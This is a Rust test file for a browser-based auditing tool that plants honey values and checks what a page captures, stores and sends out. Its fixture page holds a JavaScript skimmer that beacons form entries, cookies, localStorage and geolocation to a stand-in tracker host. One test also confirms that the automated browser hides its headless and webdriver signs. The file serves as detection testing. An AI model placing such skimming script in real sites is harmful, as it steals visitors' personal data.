//! What is planted on the terminal and what is kept there: fields, address, cookies, storage, place; telephones.

use std::collections::BTreeMap;
use std::time::Duration;

use shuhi_browser::{Observation, Screen, Waits};
use shuhi_capture::Storage;

use crate::run::{has_browser, observe};
use crate::support::{Received, Reply, Site, path};

fn quick() -> Waits {
    Waits { idle: Duration::from_millis(500), scroll: false, ..Waits::default() }
}

fn answer(received: &Received) -> Option<Reply> {
    let html = |text: &str| Some(Reply::of("text/html; charset=utf-8", format!("<!doctype html><body>{text}")));
    match path(&received.url) {
        "/form" => html(
            "<form><input name=mail type=email><label>電話 <input name=a1></label><input name=password type=password><input name=q type=search></form>\
             <script>const hit = (what, body) => navigator.sendBeacon('https://tag.mihon.example/hit/' + what, body);\
             document.addEventListener('change', (event) => hit('changed', event.target.name + '=' + event.target.value));\
             hit('kept', localStorage.getItem('shuhi_planted') + ' ' + document.cookie);\
             navigator.geolocation.getCurrentPosition((place) => hit('place', place.coords.latitude + ',' + place.coords.longitude));</script>",
        ),
        "/screen" => html(
            "<meta name=viewport content='width=device-width'><script>const agent = navigator.userAgentData;\
             navigator.sendBeacon('https://tag.mihon.example/hit/screen', JSON.stringify([innerWidth, navigator.maxTouchPoints > 0, agent.mobile, navigator.userAgent, navigator.webdriver, agent.brands.map((brand) => brand.brand).join()]))</script>",
        ),
        "/favicon.ico" => Some(Reply::of("image/x-icon", "").status(404)),
        _ => None,
    }
}

fn bodies(received: &[Received], name: &str) -> Vec<String> {
    let hits = received.iter().filter(|received| received.url.ends_with(name));
    let mut bodies: Vec<String> = hits.map(|received| String::from_utf8_lossy(&received.body).into_owned()).collect();
    // Beacons overtake each other.
    bodies.sort_unstable();
    bodies
}

#[test]
fn planted_values_come_back_from_where_they_were_planted() {
    if !has_browser() {
        return;
    }
    let site = Site::start(answer);
    let mut observation = Observation::of(["https://shop.example/form"]);
    observation.waits = quick();
    let values = [
        ("email", "mitsu@shop.example"),
        ("telephone", "090-0000-1234"),
        ("search", "蜜の味"),
        ("query", "mitsu-1"),
        ("cookie", "mitsu-2"),
        ("storage", "mitsu-3"),
        ("latitude", "35.5"),
        ("longitude", "139.25"),
    ];
    observation.honey = values.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    let seen = observe("planted", &site, &site.settings(), &observation);
    assert_eq!(bodies(&seen.received, "/hit/changed"), ["a1=090-0000-1234", "mail=mitsu@shop.example", "q=蜜の味"]);
    assert_eq!(bodies(&seen.received, "/hit/kept"), ["mitsu-3 shuhi_planted=mitsu-2"]);
    assert_eq!(bodies(&seen.received, "/hit/place"), ["35.5,139.25"]);
    assert!(seen.received.iter().any(|received| received.url == "https://shop.example/form?shuhi_planted=mitsu-1"));
    let planted: BTreeMap<String, String> = seen
        .lines("Shuhi.planted")
        .iter()
        .map(|line| (line["name"].as_str().unwrap().to_owned(), line["value"].as_str().unwrap().to_owned()))
        .collect();
    assert_eq!(planted, observation.honey);
}

#[test]
fn everything_kept_on_the_terminal_is_written_down() {
    if !has_browser() {
        return;
    }
    let site = Site::start(answer);
    let mut observation = Observation::of(["https://shop.example/storage.html"]);
    observation.waits = quick();
    let seen = observe("kept", &site, &site.settings(), &observation);
    let capture = seen.capture();
    let mut kept: Vec<(Storage, &str, &str, &str)> = capture
        .storage
        .iter()
        .map(|item| (item.storage, item.origin.as_str(), item.key.as_str(), item.value.as_str()))
        .collect();
    kept.sort_unstable();
    let shop = "https://shop.example";
    assert_eq!(
        kept,
        [
            (Storage::Local, shop, "local_key", "見本"),
            (Storage::Local, "https://waku.example", "frame_key", "frame"),
            (Storage::Session, shop, "session_key", "3"),
            (Storage::IndexedDb, shop, "mihon-db/things/a", r#"{"id":"a","value":"12n","bytes":"[4 bytes]"}"#),
            (Storage::Cache, shop, "mihon-cache/https://shop.example/hit/cached", "GET"),
        ]
    );
    let mut cookies: Vec<(&str, &str)> =
        capture.cookies.iter().map(|cookie| (cookie.name.as_str(), cookie.value.as_str())).collect();
    cookies.sort_unstable();
    assert_eq!(cookies, [("by_script", "1"), ("by_store", "2")]);
    let written: Vec<(String, String)> = seen
        .lines("Shuhi.scriptCookie")
        .iter()
        .map(|line| (line["cookie"].to_string(), line["stack"][0]["functionName"].to_string()))
        .collect();
    let text = |text: &str| format!("\"{text}\"");
    assert_eq!(
        written,
        [(text("by_script=1; path=/; max-age=600"), text("setCookie")), (text("by_store=2"), text("keep")),]
    );
    assert_eq!(seen.faults(), "");
}

#[test]
fn a_telephone_is_another_terminal() {
    if !has_browser() {
        return;
    }
    let site = Site::start(answer);
    let mut observation = Observation::of(["https://shop.example/screen"]);
    observation.waits = quick();
    observation.screens = vec![Screen::Desktop, Screen::Phone];
    let folder = tempfile::tempdir().unwrap();
    observation.pictures = Some(folder.path().to_owned());
    let seen = observe("screens", &site, &site.settings(), &observation);
    let bodies = bodies(&seen.received, "/hit/screen");
    // Sorted as texts: the desktop's 1366 goes before the telephone's 390.
    let [desktop, phone] = bodies.as_slice() else { panic!("{bodies:?}") };
    assert!(desktop.starts_with("[1366,true,false,") || desktop.starts_with("[1366,false,false,"), "{desktop}");
    assert!(phone.starts_with("[390,true,true,") && phone.contains("Android"), "{phone}");
    for told in [desktop, phone] {
        assert!(!told.contains("Headless") && told.contains(",false,"), "{told}");
    }
    let headers: Vec<&str> = seen
        .received
        .iter()
        .filter(|received| received.url.ends_with("/screen") && received.method == "GET")
        .map(|received| received.headers["user-agent"].as_str())
        .collect();
    assert!(!headers[0].contains("Headless") && headers[1].contains("Mobile"), "{headers:?}");
    for visit in &seen.summary.visits {
        let picture = std::fs::read(folder.path().join(&visit.pictures[0])).unwrap();
        assert!(picture.starts_with(b"\x89PNG"));
        assert_eq!(u32::from_be_bytes(picture[16..20].try_into().unwrap()) % visit.width_px, 0);
    }
}
